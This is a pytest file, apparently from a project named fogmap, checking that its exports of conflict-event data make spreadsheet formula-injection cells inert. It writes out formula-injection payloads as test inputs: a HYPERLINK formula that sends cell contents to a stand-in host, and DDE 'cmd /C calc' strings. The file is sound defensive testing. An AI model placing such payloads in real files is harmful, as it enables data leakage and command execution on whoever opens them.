"""Exports that cannot attack their reader: CSV cells a spreadsheet would run are inert."""

from __future__ import annotations

import csv
import io
import json

import pytest

from fogmap.export import event_rows, neutralise, write_acled_csv, write_jsonl
from fogmap.records import Event, Place
from fogmap.store.queries import EventSummary


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers() -> None:
    assert neutralise('=HYPERLINK("http://x.example/"&A1,"click")') == (
        '\'=HYPERLINK("http://x.example/"&A1,"click")'
    )
    assert neutralise("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert [neutralise(v) for v in ("+1", "-1", "\tx", "\rx")] == ["'+1", "'-1", "'\tx", "'\rx"]
    assert neutralise(-12.5) == -12.5 and neutralise("Kabul") == "Kabul"


@pytest.mark.slow  # the real gazetteer names the country
def test_the_acled_csv_writes_hostile_outlets_and_places_inert(gazetteer) -> None:
    event = Event(0, "Battles", "Armed clash", 0, 10, "clashed", mode="asserted", fatalities=3)
    place = Place(0, "=cmd|' /C calc'!A0", country="AF", lat=35.0, lon=-12.5)
    row = EventSummary(
        "abc123", "http://example.org/a", "@evil outlet", None, event, place, None, "text"
    )
    handle = io.StringIO()
    assert write_acled_csv(event_rows([row], gazetteer), handle) == 1
    (written,) = csv.DictReader(io.StringIO(handle.getvalue()))
    assert written["location"] == "'=cmd|' /C calc'!A0"
    assert written["source"] == "'@evil outlet"
    assert written["longitude"] == "-12.5" and written["fatalities"] == "3"
    assert written["country"] == "Afghanistan"


def test_jsonl_rows_keep_numbers_and_write_missing_values_as_null() -> None:
    handle = io.StringIO()
    rows = [{"event_id_cnty": "inc-1", "latitude": -12.5, "fatalities": 0, "admin1": ""}]
    assert write_jsonl(rows, handle) == 1
    assert json.loads(handle.getvalue()) == {
        "event_id_cnty": "inc-1",
        "latitude": -12.5,
        "fatalities": 0,
        "admin1": None,
    }


def test_parquet_rows_are_typed_and_written_in_row_groups(tmp_path, monkeypatch) -> None:
    import pyarrow.parquet as pq

    from fogmap import export

    monkeypatch.setattr(export, "PARQUET_BATCH", 2)
    rows = [
        {column: "" for column in export.ACLED_COLUMNS}
        | {"event_id_cnty": f"e{n}", "latitude": 34.5, "fatalities": n, "notes": "=cmd"}
        for n in range(5)
    ]
    path = tmp_path / "events.parquet"
    with path.open("wb") as handle:
        assert export.write_parquet(rows, handle) == 5
    table = pq.read_table(path)
    assert pq.ParquetFile(path).num_row_groups == 3
    assert table.column("fatalities").to_pylist() == [0, 1, 2, 3, 4]
    assert table.column("admin1").to_pylist() == [None] * 5
    assert str(table.schema.field("latitude").type) == "double"
